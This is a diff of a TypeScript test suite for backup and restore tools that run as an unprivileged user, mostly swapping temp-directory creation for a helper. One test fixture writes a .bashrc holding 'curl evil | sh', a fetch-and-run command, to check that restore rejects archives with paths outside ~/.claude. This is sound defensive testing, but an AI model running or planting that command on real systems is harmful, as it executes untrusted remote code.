@@ -1,14 +1,13 @@
 /** claude-backup / claude-restore, run as a throw-away unprivileged user with its own HOME. */
 import * as fs from "fs";
-import * as os from "os";
 import * as path from "path";
-import { guestDir, run } from "./guest";
+import { guestDir, run, tempDir } from "./guest";
 
 const bin = path.join(guestDir, "usr/local/bin");
 const nobody = 65534;
 
 function home(): string {
-    const h = fs.mkdtempSync(path.join(os.tmpdir(), "cc-backup-home-"));
+    const h = tempDir("cc-backup-home-");
     fs.mkdirSync(path.join(h, ".claude", "projects", "-home-agent-code"), { recursive: true });
     fs.writeFileSync(path.join(h, ".claude", "settings.json"), '{"v":1}\n');
     fs.writeFileSync(path.join(h, ".claude", "projects", "-home-agent-code", "s.jsonl"), "{}\n");
@@ -64,7 +63,7 @@ test("restores a backup by name", () => {
 
 test("refuses an archive with paths outside ~/.claude, and changes nothing", () => {
     const h = home();
-    const evil = fs.mkdtempSync(path.join(os.tmpdir(), "cc-evil-"));
+    const evil = tempDir("cc-evil-");
     fs.mkdirSync(path.join(evil, ".claude"));
     fs.writeFileSync(path.join(evil, ".bashrc"), "curl evil | sh\n");
     fs.writeFileSync(path.join(evil, ".claude", "x"), "x");
@@ -80,7 +79,7 @@ test("refuses an archive with paths outside ~/.claude, and changes nothing", () 
 });
 
 test("says so when there is nothing to back up or restore", () => {
-    const h = fs.mkdtempSync(path.join(os.tmpdir(), "cc-backup-empty-"));
+    const h = tempDir("cc-backup-empty-");
     run("chown", [`${nobody}:${nobody}`, h]);
     expect(as(h, "claude-backup").stderr).toMatch(/nothing to back up/);
     expect(as(h, "claude-restore").stderr).toMatch(/no backups/);
